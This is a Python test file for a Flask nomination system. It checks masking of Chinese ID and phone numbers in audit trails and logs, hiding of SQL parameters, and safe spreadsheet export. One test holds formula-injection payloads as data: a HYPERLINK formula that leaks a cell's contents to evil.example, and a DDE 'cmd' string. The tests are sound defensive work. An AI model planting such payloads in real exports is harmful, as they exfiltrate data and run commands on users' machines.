"""Issue 11, defects 2 and 3: numbers next to Chinese text are masked in the audit trail (also rows written
before the fix), the error log masks and keeps one line per record with a request id, SQL parameters are
never logged, and a spreadsheet cell is never a live formula."""
from __future__ import annotations

import io
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from flask import g

from nominate.audit.models import AuditEvent
from nominate.core.masking import mask_text
from tests.factories import make_id_number

ID_NUMBER = make_id_number("19850312", 124)
PHONE = "13812345678"
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", [
    f"身份证号{ID_NUMBER}有误，请联系{PHONE}",
    f"号码：{ID_NUMBER}。电话{PHONE[:3]}-{PHONE[3:7]}-{PHONE[7:]}",
    f"请联系{PHONE}或+86{PHONE}",
    "身份证号" + "".join(chr(ord(c) + 0xFEE0) for c in ID_NUMBER) + "有误",
])
def test_numbers_next_to_chinese_characters_are_masked(text):
    masked = mask_text(text)
    digits = "".join(c for c in masked if c.isdigit())
    assert ID_NUMBER not in digits and PHONE not in digits.replace("86", "", 1) and "****" in masked, masked
    assert "身份证号" in masked or "电话" in masked or "请联系" in masked


def test_audit_trail_masks_when_written_and_when_shown(client, f, login, db):
    nom = f.individual()
    comment = f"身份证号{ID_NUMBER}有误，请联系{PHONE}"
    from nominate.workflow.engine import fire_event

    fire_event(nom, "start_unit_publicity", f.city(), comment=comment, params={"start_date": "2021-08-02"})
    db.session.commit()
    stored = [row.comment or "" for row in db.session.scalars(db.select(AuditEvent))]
    assert all(ID_NUMBER not in c and PHONE not in c for c in stored)
    # a row written before this fix (the full numbers stored as they were typed) is masked when shown
    db.session.add(AuditEvent(nomination_id=nom.id, campaign_id=nom.campaign_id, object_type="nomination",
                              object_id=nom.id, action="update", actor_name="旧记录", comment=comment,
                              data={"note": f"电话{PHONE}", "fields": ["phone"]}))
    db.session.commit()
    page = login(f.city()).get(f"/nominations/{nom.id}").get_data(as_text=True)
    # (the owner's page shows the nominee's own number in its field; the history shows it masked)
    assert "旧记录" in page and comment not in page and mask_text(comment) in page
    g.pop("user", None)
    history = client.get(f"/api/v1/nominations/{nom.id}/history",
                         headers={"Authorization": f"Bearer {f.token(f.city())}"}).get_data(as_text=True)
    assert "旧记录" in history and ID_NUMBER not in history and PHONE not in history


LOG_SCRIPT = textwrap.dedent("""
    import sqlalchemy as sa
    from nominate import create_app
    from nominate.extensions import db

    # no job thread: it would share the in-memory database's one connection with the request (and begin a
    # transaction inside the request's), which is not what this test is about
    app = create_app({"SQLALCHEMY_DATABASE_URI": "sqlite://", "SECRET_KEY": "t", "TESTING": False,
                      "JOBS_WORKER_THREAD": "off"})

    @app.get("/boom")
    def boom():
        db.session.execute(sa.text("SELECT no_such_column FROM no_such_table WHERE x = :v"),
                           {"v": "身份证号%(id)s有误，请联系%(phone)s"})

    with app.app_context():
        app.logger.warning("导入第3行：身份证号%%s，电话%%s", "%(id)s", "%(phone)s")
    r = app.test_client().get("/boom", headers={"X-Request-ID": "req-11a-test"})
    print("STATUS", r.status_code, r.headers.get("X-Request-ID"))
""")


def test_the_error_log_masks_numbers_hides_sql_parameters_and_keeps_one_line_per_record():
    script = LOG_SCRIPT % {"id": ID_NUMBER, "phone": PHONE}
    run = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert "STATUS 500 req-11a-test" in run.stdout, run.stderr[-2000:]
    log = run.stderr
    assert ID_NUMBER not in log and PHONE not in log, log
    assert "no_such_table" in log  # the error itself is logged …
    assert "SQL parameters hidden" in log  # … without its parameters
    records = [line for line in log.splitlines() if line.strip()]
    assert any("[req-11a-test]" in line and "Exception on /boom" in line and "Traceback" in line
               for line in records), log  # the traceback is on the record's one line
    assert any("导入第3行" in line and "140105********" in line for line in records), log


def test_exported_summary_cells_are_text_never_formulas(f, walk, db, login):
    evil = '=HYPERLINK("http://evil.example/?"&C5,"详情")'
    nom = walk.to(f.window(window_name=evil, leader_position="+cmd|' /C calc'!A0", window_level="county"),
                  "city_recommended")
    r = login(f.city()).get(f"/documents/batches/{nom.batch_id}/window_summary_xlsx")
    assert r.status_code == 200 and r.data[:2] == b"PK"
    with zipfile.ZipFile(io.BytesIO(r.data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(r.data)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert evil in cells and cells[evil].data_type == "s" and cells[evil].quotePrefix
    assert cells["+cmd|' /C calc'!A0"].data_type == "s"


def test_every_handler_gets_the_masking_filter(tmp_path):
    """gunicorn's (or any library's) handlers set up before the app get the filter too."""
    import logging

    from nominate import create_app
    from nominate.core.logs import MaskingFilter

    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    access = logging.getLogger("gunicorn.access.test11a")
    access.addHandler(handler)
    access.propagate = False
    try:
        create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}", "SECRET_KEY": "t"})
        assert any(isinstance(flt, MaskingFilter) for flt in handler.filters)
        access.warning('"GET /nominations/?q=%s HTTP/1.1" 200', ID_NUMBER)
        assert ID_NUMBER not in stream.getvalue() and ID_NUMBER[:6] + "********" in stream.getvalue()
    finally:
        access.removeHandler(handler)
